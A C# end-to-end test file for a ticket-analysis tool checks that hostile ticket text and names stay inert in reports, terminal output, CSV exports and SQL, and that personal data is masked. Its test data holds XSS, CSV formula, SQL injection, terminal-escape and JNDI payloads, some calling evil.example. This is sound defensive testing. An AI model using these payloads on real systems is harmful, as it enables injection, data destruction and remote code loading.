using System.Text;
using Earshot.Storage.DuckDb;

namespace Earshot.Tests.EndToEnd;

/// <summary>Tickets that attack whoever reads them do nothing: not in the report, not on the terminal, not in a spreadsheet, not in a query.</summary>
public sealed class HostileTicketsTests : IDisposable
{
    private static readonly string[] Attacks =
    [
        "<script>alert(1)</script> my invoice is wrong",
        "<img src=x onerror=alert(2)> my invoice is wrong",
        "</script></style></title><svg onload=alert(3)> the parcel is late",
        "javascript:alert(4) <a href=\"javascript:alert(5)\">refund</a> is missing",
        "\e[2J\e[31mthe app crashes\e]0;owned\a when I log in",
        "\e]8;;http://evil.example\e\\click\e]8;;\e\\ the app crashes",
        "\e]52;c;cm0gLXJmIC8=\a the app crashes on start",
        "\u009b2J the app crashes \u009d52;c;cm0=\u009c always",
        "=cmd|'/c calc'!A1",
        "@SUM(1+1)*cmd|'/c calc'!A0",
        "+1+1 refund is missing",
        "-2+3+cmd|' /C calc'!D2",
        "\t=HYPERLINK(\"http://evil.example\",\"refund\")",
        "my invoice \u202Egnorw si\u202C is reversed \u2066x\u2069",
        "pass\u200Bword res\u200Det lin\u2060k \uFEFFdead",
        "'); DROP TABLE tickets; -- the refund is missing",
        "\"; COPY tickets TO '/tmp/owned'; -- the refund is missing",
        new string('w', 5000) + " is a very long word in a ticket",
        "line one of my invoice\r\nerror: line two pretends\rto be ours\u2028and three",
        "{{7*7}} ${jndi:ldap://evil.example/a} %s%n the invoice is wrong",
    ];

    private static readonly string[] Personal = ["anna.smith@example.com", "+49 170 1234567", "4111 1111 1111 1111", "DE89370400440532013000"];

    private static readonly string LongName = new('n', 3000);

    private static readonly string[] Names =
    [
        "message", "ticket_id", "text", "TEXT", "", "a'); DROP TABLE tickets; --", "he said \"no\"", "🎉 emoji", "$.x[0]", "a.b/c~d\\e", "\e[31mred", "=1+1",
        "\u202Eflip", "filename", "file_row_number", "_file", "_created_at", "_line", "attributes", "select", "  blanks  ", LongName,
    ];

    private readonly WorkingFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public void Nothing_of_them_can_run_in_the_report()
    {
        Analyse();
        foreach (string path in Directory.GetFiles(_folder.At("w", "reports"), "*.*ml").Concat(Directory.GetFiles(_folder.At("w", "reports"), "*.svg")))
        {
            string page = File.ReadAllText(path);
            Assert.DoesNotMatch(@"<script>alert|<img|<svg onload|</style></title>|href=""?javascript", page);
            AssertNoControls(page);
        }
    }

    [Fact]
    public void Nothing_of_them_reaches_the_terminal()
    {
        AssertNoControls(Analyse().Shown);
        string[][] commands =
        [
            ["topics"], ["topics", "--json"], ["topic", "0"], ["topic", "1", "--json"], ["status"], ["status", "--json"], ["plan"], ["sql", "SELECT * FROM tickets"], ["sql", "SELECT * FROM tickets", "--json"],
            ["sql", "SELECT * FROM raw_tickets"], ["sql", "SELECT * FROM topics"], ["sql", "SELECT * FROM rejects"], ["sql", "SHOW TABLES"], ["report"],
        ];
        foreach (string[] command in commands) AssertNoControls(_folder.Succeed([.. command, "--workspace", "w"]).Shown);
        AssertNoControls(_folder.Refuse(2, "owned", "sql", "SELECT '\e]0;owned\a\u202E", "--workspace", "w").Shown);
    }

    [Fact]
    public void No_cell_of_a_table_is_a_formula()
    {
        Analyse();
        foreach (string what in (string[])["assignments", "topics", "tickets"]) _folder.Succeed("export", what, "--workspace", "w");
        string[] tables = [.. Directory.GetFiles(_folder.Path, "*.csv").Where(path => Path.GetFileName(path) != "tickets in.csv"), .. Directory.GetFiles(_folder.At("w", "reports"), "*.csv")];
        Assert.Equal(5, tables.Length);
        foreach (string path in tables)
        {
            string table = File.ReadAllText(path);
            Assert.DoesNotMatch(@"(^|[,\n])""?\s*[=@+]", table);
            Assert.DoesNotMatch(@"(^|[,\n])""?\s*-(?!\d+(\.\d+)?[,""\r\n])", table);
            Assert.DoesNotContain("\u202E", table);
        }
    }

    [Fact]
    public void What_leaves_the_machine_has_no_personal_data()
    {
        Analyse();
        foreach (string file in (string[])["tickets.csv", "tickets.parquet", "topics.csv", "topics.parquet"])
            _folder.Succeed("export", Path.GetFileNameWithoutExtension(file), "--output", "out-" + file, "--workspace", "w");
        foreach (string path in Directory.GetFiles(_folder.Path, "out-*").Concat(Directory.GetFiles(_folder.At("w", "reports")))) AssertNothingPersonal(path);
        string shown = string.Concat(_folder.Sql("w", "SELECT topic_id FROM topics").Select(topic => _folder.Succeed("topic", topic, "--workspace", "w").Shown));
        Assert.DoesNotContain(Personal[0], shown);
    }

    [Fact]
    public void With_mask_nothing_personal_is_stored_anywhere()
    {
        Analyse("--mask");
        string[] files = Directory.GetFiles(_folder.At("w"), "*", SearchOption.AllDirectories);
        Assert.Contains(files, path => path.EndsWith("part-00000.parquet", StringComparison.Ordinal));
        Assert.Contains(files, path => path.EndsWith("rejects.parquet", StringComparison.Ordinal));
        foreach (string path in files) AssertNothingPersonal(path);
        Assert.NotEqual(["0"], _folder.Sql("w", "SELECT count(*) FROM tickets WHERE message_text LIKE '%[email]%'"));
    }

    [Fact]
    public void Every_other_column_can_be_asked_for_by_its_name_however_it_is_called()
    {
        Analyse();
        (string Column, string Value)[] asked =
        [
            ("source_ticket_id", "1"), ("text", "2"), ("TEXT_2", "3"), ("column_5", "4"), ("a'); DROP TABLE tickets; --", "5"), ("he said \"no\"", "6"), ("🎉 emoji", "7"), ("$.x[0]", "8"),
            ("a.b/c~d\\e", "9"), ("=1+1", "11"), ("filename", "13"), ("file_row_number", "14"), ("source_attributes", "18"), ("select", "19"), ("blanks", "20"), (LongName, "21"),
        ];
        string columns = string.Join(", ", asked.Select(column => $"\"{column.Column.Replace("\"", "\"\"")}\""));
        IReadOnlyList<string> row = _folder.Sql("w", $"SELECT {columns} FROM tickets WHERE message_text LIKE '%very long word%'");
        Assert.Equal([string.Join('|', asked.Select(column => "v" + column.Value))], row);
        Assert.Equal([$"{Attacks.Length + 40}"], _folder.Sql("w", "SELECT count(*) FROM tickets"));
    }

    [Fact]
    public void Blanks_quotes_and_escapes_in_names_of_files_and_workspaces_do_no_harm()
    {
        foreach (string name in (string[])["it's \"quoted\" ; drop table.csv", "two  blanks.csv", "ünïcode 発票.csv", "-dash.csv", "star*.csv"])
        {
            _folder.Write(name, Tickets.Csv(30));
            AssertNoControls(_folder.Succeed("analyze", "./" + name, "--workspace", "it's a \"w\"").Shown);
        }

        Assert.Equal(["150"], _folder.Sql("it's a \"w\"", "SELECT count(*) FROM tickets"));
        _folder.Write("\e[31mred\u202E.csv", Tickets.Csv(30) + "T-30,,,\n");
        AssertNoControls(_folder.Succeed("analyze", "\e[31mred\u202E.csv", "--workspace", "red", "--source", "'; drop \e[31m").Shown);
        AssertNoControls(_folder.Succeed("sql", "SELECT * FROM rejects", "--workspace", "red").Shown);
        AssertNoControls(_folder.Refuse(3, "does not exist", "analyze", "\e[2Jabsent\u202E.csv").Shown);
    }

    private ProgramRun Analyse(params string[] more)
    {
        StringBuilder csv = new();
        csv.AppendJoin(',', Names.Select(Quoted)).Append('\n');
        for (int row = 0; row < Attacks.Length + 40; row++)
        {
            string text = row < Attacks.Length ? Attacks[row] : $"{Tickets.Message(row)} {Personal[row % 4]}";
            csv.AppendJoin(',', Names.Select((_, column) => Quoted(column == 0 ? text : row == 17 ? $"v{column}" : column == 7 ? Personal[row % 4] : $"{row}.{column}"))).Append('\n');
        }

        csv.Append(",").AppendJoin(',', Names.Skip(1).Select(_ => Personal[0])).Append('\n'); // no text: rejected, with its excerpt
        _folder.Write("tickets in.csv", csv.ToString());
        return _folder.Succeed(["analyze", "tickets in.csv", "--source", "tickets", "--map", "text=message,id=,product=,title=,customer=,created_at=,source=", "--clusters", "5", "--workspace", "w", .. more]);
    }

    private static string Quoted(string cell) => "\"" + cell.Replace("\"", "\"\"") + "\"";

    private static void AssertNoControls(string shown) =>
        Assert.DoesNotMatch(@"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f\u202A-\u202E\u2066-\u2069\u200E\u200F]", shown);

    private void AssertNothingPersonal(string path)
    {
        string text = path.EndsWith(".parquet", StringComparison.Ordinal) ? string.Join('\n', ParquetRows(path)) : Encoding.Latin1.GetString(File.ReadAllBytes(path));
        foreach (string value in Personal)
            Assert.False(text.Contains(value, StringComparison.Ordinal), $"{Path.GetRelativePath(_folder.Path, path)} has {value}: …{Around(text, value)}…");
    }

    private static string Around(string text, string value)
    {
        int at = text.IndexOf(value, StringComparison.Ordinal);
        return at < 0 ? "" : text[Math.Max(0, at - 60)..Math.Min(text.Length, at + 60)];
    }

    private static List<string> ParquetRows(string path)
    {
        List<string> rows = [];
        using DuckDbDatabase database = new(threads: 1, memoryMegabytes: 256);
        using DuckDbConnection connection = database.Connect();
        using DuckDbResult result = connection.Query($"SELECT r::VARCHAR FROM read_parquet({Sql.Text(path)}) AS r");
        while (result.ReadChunk(chunk =>
        {
            for (int i = 0; i < chunk.Rows; i++) rows.Add(chunk.GetText(i, 0) ?? "");
        }))
        {
        }

        return rows;
    }
}
